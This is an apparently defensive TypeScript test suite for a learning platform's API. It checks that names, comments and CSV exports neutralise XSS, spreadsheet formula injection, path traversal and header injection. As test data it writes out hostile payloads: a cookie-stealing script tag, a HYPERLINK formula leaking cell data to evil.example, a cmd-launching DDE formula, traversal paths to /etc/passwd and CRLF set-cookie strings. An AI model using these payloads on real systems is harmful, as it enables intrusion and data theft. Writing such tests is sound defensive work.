import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Reply } from '../../support/server.ts';
import { exercise, startInstallation } from '../contract/installation.ts';
import type { Installation } from '../contract/installation.ts';
import { sendBytes, sendRaw } from '../fuzz/send-raw.ts';

const script = '<script>alert(document.cookie)</script>';
const formula = '=HYPERLINK("https://evil.example/?"&A1,"klik")';
let installation: Installation;

beforeAll(async () => {
  installation = await startInstallation();
});
afterAll(() => installation.stop());

const get = (path: string, as: 'learner' | 'teacher' | 'admin' = 'teacher'): Promise<Reply> =>
  installation.callers[as].request('GET', `/api/v1${path}`);

it('script in names, comments, reasons and source comes back as it is, and only as data', async () => {
  const { callers, files, ids, people } = installation;
  const source = Object.fromEntries(Object.keys(files).map((name) => [name, `// ${script}\nexport const a = (;`]));
  const at = `/api/v1/cohorts/${ids['cohort']}`;
  await callers.learner.request('PATCH', '/api/v1/me', { body: { name: script } });
  await callers.teacher.request('PATCH', at, { body: { name: script } });
  const { body } = await callers.learner.request('POST', '/api/v1/submissions', { body: { exercise, files: source } });
  const id = (body as { readonly id: string }).id;
  await callers.teacher.request('POST', `${at}/submissions/${id}/comments`, { body: { text: script } });
  await callers.teacher.request('POST', `${at}/submissions/${id}/overrides`, {
    body: { status: 'passed', reason: script },
  });
  for (const reply of [
    await get(`/submissions/${id}`),
    await get('/submissions', 'learner'),
    await get('/me', 'learner'),
    await get('/me/export', 'learner'),
    await get('/cohorts'),
    await get(`/cohorts/${ids['cohort']}/members`),
    await get(`/cohorts/${ids['cohort']}/results`),
    await get(`/cohorts/${ids['cohort']}/learners/${people.learner.id}`),
    await get('/accounts', 'admin'),
  ]) {
    expect([reply.status, reply.headers.get('content-type')]).toEqual([200, 'application/json']);
    expect(reply.headers.get('x-content-type-options')).toBe('nosniff');
    expect(reply.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(reply.text).toContain(script);
  }
});

it.each([formula, '+1+1', '-2+3', '@SUM(A1)', "=cmd|' /C calc'!A0", 'Nama, "kutip"; =1'])(
  'a name that a spreadsheet would run stands in the CSV as text: %s',
  async (name) => {
    const { callers, ids } = installation;
    expect((await callers.learner.request('PATCH', '/api/v1/me', { body: { name } })).status).toBe(200);
    const reply = await get(`/cohorts/${ids['cohort']}/results.csv`);
    expect(reply.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(reply.headers.get('x-content-type-options')).toBe('nosniff');
    expect(reply.headers.get('content-disposition')).toBe(`attachment; filename="gerbang-${ids['cohort']}.csv"`);
    const rows = parse(reply.text, { bom: true }) as readonly (readonly string[])[];
    expect(rows[1]?.[0]).toBe(/^[=+\-@]/.test(name) ? `'${name}` : name);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-\D/);
  },
);

it('no name breaks out of its line: control characters and line ends are refused', async () => {
  for (const name of ['a\r\nb', 'a\0', '\tx', 'a\u2028b', '\u001b[31m', 'a\u0085b']) {
    const reply = await installation.callers.learner.request('PATCH', '/api/v1/me', { body: { name } });
    // White space around a name is cut off, not refused.
    expect([JSON.stringify(name), reply.status]).toEqual([JSON.stringify(name), name.trim() === 'x' ? 200 : 400]);
  }
});

it('paths lead out of no export', async () => {
  const { callers, ids, server } = installation;
  const cookie = [...callers.teacher.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  for (const path of [
    `/cohorts/..%2f..%2f..%2fetc%2fpasswd/results.csv`,
    `/cohorts/${ids['cohort']}%2f..%2f..%2fetc/results.csv`,
    `/cohorts/${ids['cohort']}%00/results.csv`,
    `/cohorts/${ids['cohort']}"%0d%0aset-cookie:%20a=b/results.csv`,
    `/cohorts/${ids['cohort']}/results.csv/../../../../../../etc/passwd`,
    `/exercises/..%2f..%2fgenerated%2frules`,
    `/exercises/%2e%2e%2fpackage.json`,
    `/submissions/${ids['id']}%2f..%2freference`,
  ]) {
    const reply = await sendRaw(server.origin, { method: 'GET', path: `/api/v1${path}`, headers: { cookie } });
    expect([400, 404], `${path} ${reply.status}`).toContain(reply.status);
    expect(reply.text).not.toContain('root:');
    expect([reply.headers.get('content-disposition'), reply.headers.getSetCookie()]).toEqual([null, []]);
  }
});

it('a correlation id is taken over only in its own form, and never breaks a header or the log', async () => {
  const { server } = installation;
  for (const given of ['x'.repeat(65), 'short', '<script>', 'abc defgh', "'; drop--", '{"level":"fatal"}']) {
    const reply = await installation.callers.nobody.request('GET', '/api/v1/me', {
      headers: { 'x-correlation-id': given },
    });
    expect(reply.headers.get('x-correlation-id')).toMatch(/^[\da-f-]{36}$/);
    expect(reply.text).not.toContain(given);
  }
  const good = await installation.callers.nobody.request('GET', '/api/v1/me', {
    headers: { 'x-correlation-id': 'abcdefgh-1' },
  });
  expect(good.body.error.correlationId).toBe('abcdefgh-1');
  for (const bytes of [
    'abcdefgh\r\n set-cookie: a=b',
    'abcdefgh\rset-cookie: a=b',
    'abcdefgh\nset-cookie: a=b',
    'abc\0defgh',
  ]) {
    const head = `GET /api/v1/me HTTP/1.1\r\nhost: a\r\nconnection: close\r\nx-correlation-id: ${bytes}\r\n\r\n`;
    expect(await sendBytes(server.origin, head)).not.toMatch(/set-cookie/i);
  }
  expect(JSON.stringify(server.log())).not.toContain('drop--');
});
